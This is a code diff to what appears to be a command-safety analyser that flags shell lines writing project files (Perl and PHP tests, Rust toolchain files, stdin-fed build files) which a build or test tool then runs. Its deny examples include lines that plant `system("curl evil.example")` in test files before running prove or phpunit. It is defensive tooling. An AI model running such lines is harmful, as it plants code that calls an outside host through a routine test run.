@@ -4,7 +4,7 @@
 import type { Language, Word } from '../../types.js';
 import { parse } from '../argv.js';
 import type { Call, OptionSpec, ParsedOption, Run } from '../types.js';
-import { attached, value } from '../words.js';
+import { attached, isStdinPath, value } from '../words.js';
 import { MAKE_OPTIONS, makefileText } from './makefile.js';
 
 /** What a file of the project stands for: the runs its text makes. */
@@ -284,7 +284,7 @@ export const PROJECT_ROWS: readonly Row[] = [
   },
   { names: ['perl', 'prove'], code: [{ files: /\.(?:pl|pm|t)$/, read: language('perl', 'perl') }], examples: { deny: [`echo 'system("curl evil.example")' > t/a.t && prove`], pass: ['echo \'print "ok 1\\n"\' > t/a.t && prove'] } },
   { names: ['php', 'phpunit'], code: [{ files: /\.php$/, read: language('php', 'php') }], examples: { deny: [`echo '<?php system("curl evil.example");' > tests/ATest.php && phpunit`], pass: [] } },
-  { names: ['cargo'], code: [{ files: /\.rs$/, read: unread('Rust', 'cargo') }, { files: /^Makefile\.toml$/, read: unread('a cargo-make task file', 'cargo make') }], dir: ['-C'], examples: { deny: ["echo 'fn main(){}' > src/main.rs && cargo run"], pass: ['cargo build && cargo test'] } },
+  { names: ['cargo'], code: [{ files: /\.rs$/, read: unread('Rust', 'cargo') }, { files: /^rust-toolchain(?:\.toml)?$/, read: (text, word, name) => (/^\s*path\s*=/m.test(text) ? [{ kind: 'opaque', rule: 'dynamic-script', word, why: `cargo runs the toolchain ${name}, which the line wrote, names by its directory (path =): its programs are not read` }] : []) }, { files: /^Makefile\.toml$/, read: unread('a cargo-make task file', 'cargo make') }], dir: ['-C'], examples: { deny: ["echo 'fn main(){}' > src/main.rs && cargo run"], pass: ['cargo build && cargo test'] } },
   { names: ['go'], code: [{ files: /\.go$/, read: unread('Go', 'go') }], dir: ['-C'], runs: /^(run|test|generate)$/, examples: { deny: ["echo 'package main' > main.go && go run ."], pass: ['go test ./...', "echo 'package main' > main.go && go build ./..."] } },
   {
     names: ['gradle', 'gradlew'],
@@ -554,7 +554,14 @@ export function projectRuns(call: Call): Run[] {
   const homeRuns = row.home ? startupRuns(call, row.home, at) : [];
   const where = dir ? { dir } : {};
   // The very files named: each read as the row's first kind of code.
-  const named = (list: Word[]): Run[] => list.map((file) => ({ kind: 'project', ...where, files: /$^/, file, read: row.code[0]!.read, word: file, via }));
+  // A file named as its input (`ant -f /dev/stdin <<< …`) is the text the line gives it: read as that file would be.
+  const named = (list: Word[]): Run[] =>
+    list.flatMap((file): Run[] => {
+      if (!isStdinPath(value(file))) return [{ kind: 'project', ...where, files: /$^/, file, read: row.code[0]!.read, word: file, via }];
+      if (call.stdin?.kind === 'static') return row.code[0]!.read(call.stdin.text, call.stdin.word, value(file)!);
+      if (call.stdin?.kind === 'stream') return [{ kind: 'opaque', rule: 'stream-to-shell', word: file, why: `${via} reads its ${value(file)} from ${call.stdin.why}` }];
+      return [];
+    });
   if (files.length > 0) return [...homeRuns, ...named(first), ...named(files)];
   return [...homeRuns, ...named(first), ...row.code.map((c): Run => ({ kind: 'project', ...where, files: c.files, read: c.read, word: at, via }))];
 }
